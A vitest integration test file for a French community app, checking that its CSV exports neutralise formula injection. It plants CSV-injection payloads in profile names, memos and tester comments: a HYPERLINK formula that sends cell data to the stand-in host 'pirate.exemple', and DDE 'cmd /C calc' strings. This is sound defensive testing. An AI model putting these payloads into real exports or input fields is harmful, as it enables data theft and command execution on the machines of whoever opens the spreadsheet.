import { strFromU8, unzipSync } from 'fflate';
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { signUp, startTestApp, type GraphQLClient, type TestApp } from '../helpers/api.js';
import { eventInput } from '../helpers/agenda.js';

/**
 * Every CSV export with what an attacker would type where the export shows it: a spreadsheet must
 * receive text, never a formula (OWASP "CSV injection"; the writer is server/src/shared/csv.ts).
 */
const HYPERLINK = '=HYPERLINK("https://pirate.exemple/?"&A1,"Cliquez")';
const COMMAND = "+cmd|' /C calc'!A0";
const SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
const ARITHMETIC = "-2+3+cmd|' /C calc'!A0";

/** How the writer must send a text cell that starts like a formula: apostrophe first, quoted. */
const neutralized = (text: string) => `"'${text.replace(/"/g, '""')}"`;

/** No cell of a `;` or `,` CSV starts with a formula character outside quotes. */
function expectNoLiveFormula(csv: string, delimiter: ';' | ',') {
  const live = new RegExp(`(^|${delimiter})[=+@\\t]|(^|${delimiter})-(?![0-9])`, 'm');
  expect(csv.replace(/^\uFEFF/, '')).not.toMatch(live);
}

let app: TestApp;
beforeAll(async () => {
  app = await startTestApp();
});
afterAll(async () => {
  await app?.close();
});

const cookieOf = (client: GraphQLClient) => [...client.cookies].map(([name, value]) => `${name}=${value}`).join('; ');

/** A signed-in member whose address is confirmed (what publishing and sending time ask). */
async function member(name: string): Promise<{ client: GraphQLClient; id: string }> {
  await app.orm.em.getConnection().execute(`delete from rate_limit`);
  const client = app.client();
  const { id } = await signUp(client, name);
  await app.orm.em.getConnection().execute(`update app_user set email_verified_at = now() where id = ?`, [id]);
  return { client, id };
}

/** What the member typed in their profile, as they typed it (the API lets any name through). */
async function setProfile(id: string, displayName: string, commune: string | null = null) {
  await app.orm.em.getConnection().execute(`update app_user set display_name = ?, commune = ? where id = ?`, [displayName, commune, id]);
}

/** A closed test campaign whose tester wrote `comment` in their report (device "@smartphone"). */
async function testedCampaign(comment: string) {
  const holder = await member('Porteuse De Projet');
  const { createOrganization } = await holder.client.data(
    `mutation { createOrganization(input: { name: "Association Bien Vieillir" }) { id } }`,
  );
  const { createProject } = await holder.client.data(`mutation ($input: CreateProjectInput!) { createProject(input: $input) { id } }`, {
    input: { holderId: createOrganization.id, title: 'Appli simplifiée', summary: 'Appeler ses proches sans se perdre.', stage: 'BETA' },
  });
  const inDays = (days: number) => new Date(Date.now() + days * 86_400_000).toISOString();
  const { openCampaign } = await holder.client.data(
    `mutation ($input: OpenCampaignInput!) { openCampaign(input: $input) { id scenarios { id } } }`,
    {
      input: {
        projectId: createProject.id,
        title: 'Première bêta',
        goal: 'Savoir si une personne qui débute appelle un proche sans aide.',
        seats: 2,
        applicationDeadline: inDays(7),
        testStartsAt: inDays(1),
        testEndsAt: inDays(21),
        scenarios: [{ title: 'Appeler un proche', steps: ['Ouvrir l’appli'], expectedResult: 'L’appel part.' }],
      },
    },
  );
  const tester = await member('Testeuse');
  const { applyToCampaign } = await tester.client.data(
    `mutation ($input: ApplyToCampaignInput!) { applyToCampaign(input: $input) { id } }`,
    {
      input: {
        campaignId: openCampaign.id,
        motivation: 'Je débute et je veux aider.',
        level: 'DEBUTANT',
        device: 'smartphone',
        agreesToBeNamed: true,
      },
    },
  );
  await holder.client.data(`mutation ($input: DecideApplicationInput!) { decideApplication(input: $input) { id } }`, {
    input: { applicationId: applyToCampaign.id, decision: 'ACCEPTED' },
  });
  await tester.client.data(`mutation ($input: SubmitTestReportInput!) { submitTestReport(input: $input) { id } }`, {
    input: { scenarioId: openCampaign.scenarios[0].id, succeeded: true, rating: 4, comment, device: '@smartphone' },
  });
  await holder.client.data(`mutation ($input: CloseCampaignInput!) { closeCampaign(input: $input) { id } }`, {
    input: { campaignId: openCampaign.id },
  });
  return { tester, campaignId: openCampaign.id as string };
}

describe('CSV exports never hand a spreadsheet a formula', () => {
  it("émargement: a participant's name and commune stay text in the organizer's sheet", async () => {
    const organizer = await member('Camille Organisatrice');
    const { createOrganization } = await organizer.client.data(
      `mutation { createOrganization(input: { name: "Amicale laïque de Savenay" }) { id } }`,
    );
    const { createEvent } = await organizer.client.data(`mutation ($input: CreateEventInput!) { createEvent(input: $input) { id } }`, {
      input: eventInput(createOrganization.id),
    });
    const participant = await member('Participante');
    await setProfile(participant.id, HYPERLINK, COMMAND);
    await participant.client.data(`mutation ($id: ID!) { registerToEvent(input: { eventId: $id }) { status } }`, { id: createEvent.id });

    const response = await fetch(`${app.url}/api/agenda/events/${createEvent.id}/emargement.csv`, {
      headers: { cookie: cookieOf(organizer.client) },
    });
    expect(response.status).toBe(200);
    const csv = await response.text();
    const row = csv.split('\r\n').find((line) => line.includes('HYPERLINK'));
    expect(row).toContain(`${neutralized(HYPERLINK)};`);
    expect(row).toContain(`;${neutralized(COMMAND)};Inscrit·e;`);
    expectNoLiveFormula(csv, ';');
  });

  it("time-bank statement: a memo and the other member's name stay text, amounts stay numbers", async () => {
    const payer = await member('Payeuse');
    const payee = await member('Receveur');
    await setProfile(payer.id, ARITHMETIC);
    const TRANSFER = `mutation ($input: TransferTimeInput!) { transferTime(input: $input) { minutes } }`;
    await payer.client.data(TRANSFER, { input: { toUserId: payee.id, minutes: 30, memo: SUM, idempotencyKey: randomUUID() } });

    const mine = await (await fetch(`${app.url}/api/banque-de-temps/releve.csv`, { headers: { cookie: cookieOf(payer.client) } })).text();
    const out = mine.split('\r\n')[1];
    expect(out).toContain(`;${neutralized(SUM)};30;;`);
    expectNoLiveFormula(mine, ';');

    const theirs = await (await fetch(`${app.url}/api/banque-de-temps/releve.csv`, { headers: { cookie: cookieOf(payee.client) } })).text();
    const line = theirs.split('\r\n')[1];
    expect(line).toContain(`;${neutralized(ARITHMETIC)};${neutralized(SUM)};;30;`);
    expectNoLiveFormula(theirs, ';');
  });

  it('/api/lieux.csv: an organization name stays text, negative longitudes stay numbers', async () => {
    const admin = await member('Admin Du Lieu');
    await admin.client.data(`mutation ($input: CreateOrganizationInput!) { createOrganization(input: $input) { id } }`, {
      input: {
        name: ARITHMETIC,
        adresse: '3 rue du Port',
        commune: 'Nantes',
        codePostal: '44000',
        latitude: 47.2,
        longitude: -1.55,
      },
    });
    const csv = await (await fetch(`${app.url}/api/lieux.csv`)).text();
    const row = csv.split('\n').find((line) => line.includes('cmd|'));
    expect(row).toContain(neutralized(ARITHMETIC));
    expect(row).toMatch(/,47\.2,-1\.55,/);
    expectNoLiveFormula(csv, ',');
  });

  it("campaign results: a tester's comment stays text", async () => {
    const { campaignId } = await testedCampaign(COMMAND);
    const csv = await (await fetch(`${app.url}/api/projets/campagnes/${campaignId}/resultats.csv`)).text();
    expect(csv).toContain(`;${neutralized('@smartphone')};oui;4;${neutralized(COMMAND)}\r\n`);
    // Numbers of the summary row stay numbers.
    expect(csv).toContain('1;Appeler un proche;1;1;100;4;');
    expectNoLiveFormula(csv, ';');
  });

  it('"mes données" archive: the member\'s name and a test report\'s comment stay text, under French or English field names', async () => {
    const { tester } = await testedCampaign(COMMAND);
    await setProfile(tester.id, HYPERLINK, SUM);
    const archive = async () => {
      const response = await fetch(`${app.url}/api/mes-donnees.zip`, { headers: { cookie: cookieOf(tester.client) } });
      expect(response.status).toBe(200);
      return Object.fromEntries(
        Object.entries(unzipSync(new Uint8Array(await response.arrayBuffer()))).map(([name, bytes]) => [name, strFromU8(bytes)]),
      );
    };

    const fr = await archive();
    expect(fr['Compte et profil.csv']).toContain(`\r\nProfil;;Nom affiché;${neutralized(HYPERLINK)}\r\n`);
    expect(fr['Compte et profil.csv']).toContain(`\r\nProfil;;Commune;${neutralized(SUM)}\r\n`);
    expect(fr['Projets et tests.csv']).toContain(
      `\r\nCandidatures aux tests;1;Comptes rendus de test › 1 › Commentaire;${neutralized(COMMAND)}\r\n`,
    );
    expect(fr['Projets et tests.csv']).toContain(
      `\r\nCandidatures aux tests;1;Comptes rendus de test › 1 › Appareil;${neutralized('@smartphone')}\r\n`,
    );
    expect(fr['Projets et tests.csv']).toContain('\r\nCandidatures aux tests;1;Comptes rendus de test › 1 › Réussi;oui\r\n');
    for (const [name, csv] of Object.entries(fr)) if (name.endsWith('.csv')) expectNoLiveFormula(csv, ';');

    await tester.client.data(`mutation { updateProfile(input: { locale: "en" }) { id } }`);
    const en = await archive();
    expect(en['Account and profile.csv']).toContain(`\r\nProfile,,Display name,${neutralized(HYPERLINK)}\r\n`);
    expect(en['Projects and tests.csv']).toContain(`\r\nApplications to test,1,Test reports › 1 › Comment,${neutralized(COMMAND)}\r\n`);
    expect(en['Projects and tests.csv']).toContain('\r\nApplications to test,1,Test reports › 1 › Succeeded,yes\r\n');
    for (const [name, csv] of Object.entries(en)) if (name.endsWith('.csv')) expectNoLiveFormula(csv, ',');
  });
});
